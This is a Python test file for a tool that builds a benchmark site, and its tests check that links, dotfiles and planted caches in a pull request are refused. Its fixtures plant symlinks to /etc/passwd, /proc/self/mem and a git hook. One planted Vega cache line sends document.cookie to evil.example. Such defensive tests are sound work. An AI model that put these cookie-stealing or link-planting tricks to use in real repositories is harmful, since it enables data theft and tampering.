"""Files a pull request can plant: links, dotfiles, build folders, caches, and the writes.

No symbolic link and no dotfile under data/, docs/ or overrides/ (`ccr validate`, `ccr diff`,
the build); no write follows a link (a new file with a random name, renamed into place); no
folder is deleted through a link; the Vega cache is used only when its hash is the pinned
one; a killed `ccr correct` leaves nothing git would commit; one build at a time; a full
disk is reported as such and keeps the previous site.
"""

from __future__ import annotations

import errno
import hashlib
import os
import re
import shutil
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from benchmark import fsutil
from benchmark.build import SNIPPET, VEGA_SHA256, vega_bundle, write_docs
from benchmark.cli import cli
from benchmark.diff import diff_report
from benchmark.tree_policy import listing_problems
from tests.helpers import REPO, git, tree_digest
from tests.recording import small_tree

LINK = (
    "a symbolic link; none is allowed under data/, docs/ or overrides/ — hint: replace "
    "the link by a copy of the file, or delete it: CCR never reads, publishes or writes "
    "through a link (it could reach files outside the repository)"
)
DOT = (
    "a hidden file or folder (its name starts with a dot); none is allowed under data/, "
    "docs/ or overrides/ — hint: rename it without the leading dot, or delete it (a "
    "*.ccr-tmp file is left over from an interrupted `ccr correct`: delete it)"
)


def invoke(*args: str) -> tuple[int, str, str]:
    """Exit code, stdout and stderr of a ccr command run in-process."""
    result = CliRunner().invoke(cli, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    return result.exit_code, result.stdout, result.stderr


@pytest.fixture
def outside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder outside the repository, holding a secret and a canary."""
    folder = tmp_path_factory.mktemp("outside")
    (folder / "secret.yaml").write_text("slug: leak\nTOPSECRET_TOKEN: ghp_abc\n")
    (folder / "docs").mkdir()
    (folder / "docs" / "canary.txt").write_text("still here\n")
    return folder


# --- 1. the policy: links and dotfiles are problems ----------------------------------------


def plant(root: Path, outside: Path) -> None:
    """A link or a dotfile in each policed folder."""
    companies = root / "data" / "companies"
    (companies / "evil.yaml").symlink_to("/proc/self/mem")
    (companies / ".valid.yaml.ccr-tmp").symlink_to("../../.git/hooks/pre-commit")
    (root / "data" / "editions" / ".hidden.yaml").write_text("id: hidden\n")
    (root / "docs").mkdir(exist_ok=True)
    (root / "docs" / "passwd.md").symlink_to("/etc/passwd")
    (root / "docs" / ".well-known").mkdir()
    (root / "docs" / ".well-known" / "security.txt").write_text("x\n")
    (root / "overrides").mkdir(exist_ok=True)
    (root / "overrides" / "extra.html").symlink_to(outside / "secret.yaml")


PLANTED = [
    f"data/companies/.valid.yaml.ccr-tmp:1:1: {LINK}",
    f"data/companies/evil.yaml:1:1: {LINK}",
    f"data/editions/.hidden.yaml:1:1: {DOT}",
    f"docs/.well-known:1:1: {DOT}",
    f"docs/passwd.md:1:1: {LINK}",
    f"overrides/extra.html:1:1: {LINK}",
]


def test_validate_reports_every_link_and_dotfile(tree: Path, outside: Path) -> None:
    """Each link and dotfile is one problem, also when only some files are checked."""
    plant(tree, outside)
    assert invoke("validate", "--root", str(tree)) == (
        1,
        "\n".join([*PLANTED, "Checked 1 company file and 1 edition: 6 errors.", ""]),
        "",
    )
    one = str(tree / "data" / "companies" / "neighbour.yaml")
    assert invoke("validate", "--root", str(tree), one) == (
        1,
        "\n".join([*PLANTED, "Checked 1 company file and 0 editions: 6 errors.", ""]),
        "",
    )


def test_a_linked_company_file_is_never_read(tree: Path, outside: Path) -> None:
    """Named by its own name, refused unread: its target's content appears nowhere."""
    link = tree / "data" / "companies" / "leak.yaml"
    link.symlink_to(outside / "secret.yaml")
    expected = f"data/companies/leak.yaml:1:1: {LINK}"
    for args in ([], [str(link)]):
        code, out, err = invoke("validate", "--root", str(tree), *args)
        assert (code, out.splitlines()[0], err) == (1, expected, ""), out
        assert "TOPSECRET" not in out
        assert str(outside) not in out


def test_build_refuses_a_linked_company_file(site_tree: Path, outside: Path) -> None:
    """The build stops on the same problem (it used to build the target as a company)."""
    (site_tree / "data" / "companies" / "leak.yaml").symlink_to(outside / "secret.yaml")
    assert invoke("build", "--root", str(site_tree)) == (
        1,
        "",
        "\n".join(
            [
                f"data/companies/leak.yaml:1:1: {LINK}",
                "Error: the data has 1 error — hint: run `ccr validate` and fix each problem it lists",  # noqa: E501 - the exact line the user sees
                "",
            ]
        ),
    )
    assert not (site_tree / "site").exists()


def test_diff_reports_the_links_and_dotfiles_a_change_brings(repo: Path) -> None:
    """In git a link is a blob of mode 120000: `ccr diff` reports it, and dotfiles, as new."""
    git(repo, "checkout", "-q", "-b", "pr")
    plant(repo, repo / "data" / "companies")  # overrides/extra.html → a file of the tree
    git(repo, "add", "-f", "-A")
    git(repo, "commit", "-q", "-m", "innocent data change")
    result = diff_report(repo, "main", "pr", datetime(2026, 11, 23, tzinfo=UTC))
    assert [p.format() for p in result.problems] == [
        f"{line.split(':', 1)[0]}:1:1: {line.split(': ', 1)[1]}" for line in PLANTED
    ]
    assert not result.ok
    code, _, _ = invoke("diff", "main", "pr", "--root", str(repo))
    assert code == 1
    # The same tree at BASE is not a new problem.
    git(repo, "checkout", "-q", "-b", "later")
    (repo / "data" / "companies" / "neighbour.yaml").write_text(
        (repo / "data" / "companies" / "neighbour.yaml").read_text() + "# a comment\n"
    )
    git(repo, "commit", "-q", "-am", "comment")
    assert diff_report(repo, "pr", "later", datetime(2026, 11, 23, tzinfo=UTC)).problems == []


def test_listing_problems_reads_modes_and_names() -> None:
    """Mode 120000 is a link; a dotted folder is one problem; other folders are not policed."""
    problems = listing_problems(
        [
            ("100644", "data/companies/a.yaml"),
            ("120000", "docs/x.md"),
            ("100644", "docs/.w/a"),
            ("120000", "docs/.w/b"),
            ("120000", "overrides"),
            ("100644", "README.md"),
            ("120000", "scripts/x"),
            ("100644", ".github/x.yml"),
            ("120000", "data/.y"),
        ]
    )
    assert [(p.kind, p.file) for p in problems] == [
        ("symlink", "data/.y"),
        ("dotfile", "docs/.w"),
        ("symlink", "docs/x.md"),
        ("symlink", "overrides"),
    ]


def test_a_linked_data_folder_is_not_read(tree: Path, outside: Path) -> None:
    """data/companies as a link to another folder: reported, and nothing in it is read."""
    shutil.copyfile(tree / "data" / "companies" / "neighbour.yaml", outside / "neighbour.yaml")
    shutil.rmtree(tree / "data" / "companies")
    (tree / "data" / "companies").symlink_to(outside)
    assert invoke("validate", "--root", str(tree)) == (
        1,
        f"data/companies:1:1: {LINK}\nChecked 0 company files and 1 edition: 1 error.\n",
        "",
    )


def test_files_git_ignores_are_the_maintainers_own(tree: Path) -> None:
    """An editor's swap file git ignores is left alone; committed with -f, it is reported."""
    shutil.copyfile(REPO / ".gitignore", tree / ".gitignore")
    git(tree, "init", "-q", "-b", "main")
    swap = tree / "data" / "companies" / ".neighbour.yaml.swp"
    swap.write_bytes(b"b0VIM 9.0")
    code, out, _ = invoke("validate", "--root", str(tree))
    assert (code, out) == (0, "Checked 1 company file and 1 edition: no problems.\n")
    git(tree, "add", "-f", str(swap))
    code, out, _ = invoke("validate", "--root", str(tree))
    assert (code, out.splitlines()[0]) == (1, f"data/companies/.neighbour.yaml.swp:1:1: {DOT}")


# --- 2. writes never follow links -----------------------------------------------------------


@pytest.fixture
def demo(tmp_path: Path) -> Path:
    """The bundled editions and methodologies, and one company, committed with a .gitignore.

    The company is alderbyte-goods; the repository has the project's .gitignore.

    One answer is then changed in the work tree: the data change `ccr correct` records.
    """
    small_tree(tmp_path, "alderbyte-goods")
    shutil.copyfile(REPO / ".gitignore", tmp_path / ".gitignore")
    git(tmp_path, "init", "-q", "-b", "main")
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-q", "-m", "demo")
    company = tmp_path / "data/companies/alderbyte-goods.yaml"
    company.write_text(
        company.read_text().replace("complete_correct: false", "complete_correct: true", 1)
    )
    return tmp_path


def test_correct_never_writes_through_a_link_at_its_old_temp_name(
    demo: Path, outside: Path
) -> None:
    """The old fixed temp name as a link to a hook: the hook is untouched, the link stays."""
    hook = outside / "pre-commit"
    hook.write_text("#!/bin/sh\nexit 0\n")
    link = demo / "data/companies/.alderbyte-goods.yaml.ccr-tmp"  # git ignores it
    link.symlink_to(hook)
    company = demo / "data/companies/alderbyte-goods.yaml"
    before = company.read_text()
    code, _, err = invoke(
        "correct",
        "alderbyte-goods",
        "--summary",
        "Fixed.",
        "--date",
        "2026-11-20",
        "--root",
        str(demo),
    )
    assert (code, err) == (0, ""), err
    assert hook.read_text() == "#!/bin/sh\nexit 0\n"
    assert link.is_symlink()
    assert not company.is_symlink()
    assert company.read_text().startswith(before)
    assert yaml.safe_load(company.read_text())["corrections"][-1]["summary"] == "Fixed."
    assert sorted(p.name for p in company.parent.glob(".*")) == [link.name]


def test_atomic_write_replaces_a_link_itself_and_refuses_a_linked_folder(
    tmp_path: Path, outside: Path
) -> None:
    """The rename replaces a link, never its target; a folder that is a link is refused."""
    target = outside / "secret.yaml"
    before = target.read_bytes()
    link = tmp_path / "file.txt"
    link.symlink_to(target)
    fsutil.atomic_write(link, b"new\n")
    assert (link.read_bytes(), link.is_symlink(), target.read_bytes()) == (b"new\n", False, before)
    folder = tmp_path / "linked"
    folder.symlink_to(outside)
    with pytest.raises(fsutil.UnsafePath, match=r"linked is a symbolic link"):
        fsutil.atomic_write(folder / "secret.yaml", b"x", tmp_path)
    assert target.read_bytes() == before


def test_atomic_write_keeps_the_mode_and_leaves_no_temp_on_failure(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The new file has the old one's permissions; a failed rename leaves the old file."""
    path = tmp_path / "f.yaml"
    path.write_bytes(b"old")
    path.chmod(0o640)
    fsutil.atomic_write(path, b"new")
    assert (path.read_bytes(), path.stat().st_mode & 0o777) == (b"new", 0o640)

    def full(*_args: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(fsutil.WriteError, match=f"the disk is full: could not write {path}"):
        fsutil.atomic_write(path, b"newer")
    assert path.read_bytes() == b"new"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["f.yaml"]


def test_export_refuses_a_linked_folder(tree: Path, outside: Path) -> None:
    """`ccr export --out LINK` writes nothing through the link."""
    out = tree / "export"
    out.symlink_to(outside)
    before = sorted(p.name for p in outside.iterdir())
    assert invoke("export", "--out", str(out), "--root", str(tree)) == (
        1,
        "",
        (
            f"Error: {out} is a symbolic link, so CCR will not write through it (nothing was "
            "changed) — hint: remove the link (`git rm` it if it was committed) and run the "
            "command again\n"
        ),
    )
    assert sorted(p.name for p in outside.iterdir()) == before


def test_new_refuses_a_linked_companies_folder(tree: Path, outside: Path) -> None:
    """`ccr new` never creates its file inside a folder that is a link.

    Its check of the data set reports the link first; fsutil.make_dir refuses it too.
    """
    companies = tree / "data" / "companies"
    shutil.copytree(companies, outside / "companies")
    shutil.rmtree(companies)
    companies.symlink_to(outside / "companies")
    code, out, err = invoke(
        "new",
        "Acme Support",
        "--website",
        "https://acme.example",
        "--sector",
        "software-house",
        "--fictional",
        "--root",
        str(tree),
    )
    assert (code, out, err) == (
        1,
        "",
        (
            f"data/companies:1:1: {LINK}\n"
            "Error: data/companies/acme-support.yaml would not be valid, so it was not written — "
            "hint: the lines above point into the file as it would have been; fix the option "
            "behind each (--website, --sector, --country, --fictional, --edition) and run ccr new "
            "again\n"
        ),
    )
    assert sorted(p.name for p in (outside / "companies").iterdir()) == ["neighbour.yaml"]
    with pytest.raises(fsutil.UnsafePath, match="data/companies is a symbolic link"):
        fsutil.make_dir(companies, tree)


# --- 3. build folders -----------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "action"),
    [
        (".ccr-build", "write"),
        ("site", "delete"),
        ("site.new", "delete"),
        ("site.old", "delete"),
    ],
)
def test_build_never_deletes_through_a_linked_folder(
    site_tree: Path, outside: Path, name: str, action: str
) -> None:
    """A committed .ccr-build (or site, site.new, site.old) link: refused, nothing deleted."""
    (site_tree / name).symlink_to(outside)
    code, out, err = invoke("build", "--root", str(site_tree))
    assert (code, out, err) == (
        1,
        "",
        (
            f"Error: {name} is a symbolic link, so CCR will not {action} through it (nothing was "
            "changed) — hint: remove the link (`git rm` it if it was committed) and run the "
            "command again\n"
        ),
    )
    assert (outside / "docs" / "canary.txt").read_text() == "still here\n"
    assert sorted(p.name for p in outside.iterdir()) == ["docs", "secret.yaml"]


def test_links_and_dotfiles_in_docs_are_never_copied(tmp_path: Path, outside: Path) -> None:
    """Even past validation, the copy of docs/ leaves links and dotfiles out."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "page.md").write_text("# Page\n")
    (docs / "passwd.md").symlink_to("/etc/passwd")
    (docs / "secrets").symlink_to(outside)
    (docs / ".env").write_text("TOKEN=x\n")
    write_docs([], docs, tmp_path / "out", tmp_path)
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["page.md"]


# --- 4. the Vega cache ----------------------------------------------------------------------


def test_a_planted_vega_cache_is_never_served(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A cache file with other bytes is made again; one with the pinned hash is used."""
    import vl_convert

    version = vl_convert.__version__  # type: ignore[attr-defined]  # set at run time, not in its .pyi
    if version not in VEGA_SHA256:
        made = hashlib.sha256(vl_convert.javascript_bundle(SNIPPET).encode()).hexdigest()
        pytest.fail(
            f"vl-convert {version} is not pinned: add {version!r}: {made!r} to "
            "VEGA_SHA256 in benchmark/build.py"
        )
    cache = tmp_path / "cache"
    cache.mkdir()
    evil = b"fetch('https://evil.example/?' + document.cookie);"
    named = cache / f"vega-{version}-{VEGA_SHA256[version][:16]}.js"
    for path in (cache / f"vega-{version}.js", named):  # the old name and the new one
        path.write_bytes(evil)
    bundle = vega_bundle(cache)
    assert hashlib.sha256(bundle).hexdigest() == VEGA_SHA256[version]
    assert named.read_bytes() == bundle  # made again, over the planted file

    def unavailable(_snippet: str) -> str:
        raise AssertionError("the verified cache should have been used")

    monkeypatch.setattr(vl_convert, "javascript_bundle", unavailable)
    assert vega_bundle(cache) == bundle


# --- 5. temporary files ---------------------------------------------------------------------


def dead_pid() -> int:
    """The pid of a process that has ended."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


def test_correct_removes_the_temp_file_a_killed_run_left(demo: Path) -> None:
    """A stray .<name>.<pid>.<random>.ccr-tmp of an ended process goes at the next run."""
    folder = demo / "data" / "companies"
    stray = folder / f".alderbyte-goods.yaml.{dead_pid()}.k2j4x9.ccr-tmp"
    stray.write_text("half a file")
    code, _, err = invoke("correct", "alderbyte-goods", "--summary", "Fixed.", "--root", str(demo))
    assert (code, err) == (
        0,
        f"Removed data/companies/{stray.name}, left by an interrupted ccr correct.\n",
    )
    assert not list(folder.glob(".*"))


def test_stray_clean_up_keeps_links_and_running_writers(tmp_path: Path, outside: Path) -> None:
    """Only regular files of ended processes: a link is neither followed nor removed."""
    dead = dead_pid()
    (tmp_path / f".a.yaml.{dead}.abc.ccr-tmp").write_text("x")
    (tmp_path / f".b.yaml.{dead}.abc.ccr-tmp").symlink_to(outside / "secret.yaml")
    (tmp_path / f".c.yaml.{os.getppid()}.abc.ccr-tmp").write_text("being written")
    (tmp_path / "d.yaml.ccr-tmp").write_text("not ours")
    assert fsutil.clean_stray_temps(tmp_path) == [f".a.yaml.{dead}.abc.ccr-tmp"]
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        f".b.yaml.{dead}.abc.ccr-tmp",
        f".c.yaml.{os.getppid()}.abc.ccr-tmp",
        "d.yaml.ccr-tmp",
    ]
    assert (outside / "secret.yaml").exists()


def test_gitignore_covers_every_temp_name_ccr_writes(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The names atomic_write creates (seen mid-write) are ignored by the project's .gitignore."""
    seen: list[str] = []
    real = os.replace

    def spy(src: str, dst: str) -> None:
        seen.append(os.path.basename(src))
        real(src, dst)

    monkeypatch.setattr(os, "replace", spy)
    fsutil.atomic_write(tmp_path / "acme.yaml", b"x")
    assert len(seen) == 1
    assert seen[0].startswith(".acme.yaml.")
    names = [
        f"data/companies/{seen[0]}",
        f"export/{seen[0]}",
        f"site.new/search/{seen[0]}",
        "site.new/x",
        "site.old/x",
        ".ccr-build/lock",
    ]
    done = subprocess.run(
        ["git", "check-ignore", "--no-index", *names],
        cwd=REPO,
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.stdout.split() == names


# --- 6. one build at a time; a full disk ----------------------------------------------------

HOLD = """
import sys, time
from pathlib import Path
from benchmark.build import build_lock
with build_lock(Path(sys.argv[1])):
    print("locked", flush=True)
    time.sleep(120)
"""


@pytest.mark.slow
def test_a_second_build_says_another_is_running(site_tree: Path) -> None:
    """While a build holds the lock, another stops at once and names its pid."""
    with subprocess.Popen(
        [sys.executable, "-c", HOLD, str(site_tree)], stdout=subprocess.PIPE, text=True
    ) as holder:
        try:
            assert holder.stdout is not None
            assert holder.stdout.readline() == "locked\n"
            assert invoke("build", "--root", str(site_tree)) == (
                1,
                "",
                (
                    f"Error: another build is running (pid {holder.pid}) — hint: wait for it to "
                    "finish, or stop it, then build again; the site is replaced only when a build "
                    "succeeds\n"
                ),
            )
            assert not (site_tree / "site").exists()
        finally:
            holder.kill()
    code, _, err = invoke("build", "--root", str(site_tree))  # the lock went with the process
    assert (code, err) == (0, "")


@pytest.fixture
def built_tree(built_site: Path, tmp_path: Path) -> Path:
    """A copy of the fixture tree with its site built (built once per session)."""
    return Path(shutil.copytree(built_site, tmp_path / "built", symlinks=True))


@pytest.mark.parametrize("where", ["mkdocs", "docs"])
def test_a_full_disk_keeps_the_site_and_says_where(
    built_tree: Path, where: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """ENOSPC while MkDocs writes the site, or while the pages are written: named, not a bug."""
    import mkdocs.utils

    before = tree_digest(built_tree / "site")

    def full(_content: bytes, path: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    if where == "mkdocs":
        monkeypatch.setattr(mkdocs.utils, "write_file", full)
        folder = built_tree / "site.new"
    else:
        monkeypatch.setattr(fsutil, "create_new", lambda path, data: full(data, path))
        folder = built_tree / ".ccr-build" / "docs"
    # --clean: a full build (an incremental one would reuse the MkDocs output and the pages)
    code, out, err = invoke("build", "--clean", "--root", str(built_tree))
    found = re.fullmatch(
        r"Error: the disk is full: could not write (\S+) — hint: free some "
        r"space on that disk \(or raise the quota\) and run the command "
        r"again; the previous site is untouched\n",
        err,
    )
    assert (code, out) == (1, "")
    assert found, err
    assert found.group(1).startswith(f"{folder}/")
    assert tree_digest(built_tree / "site") == before
    assert not (built_tree / "site.new").exists()
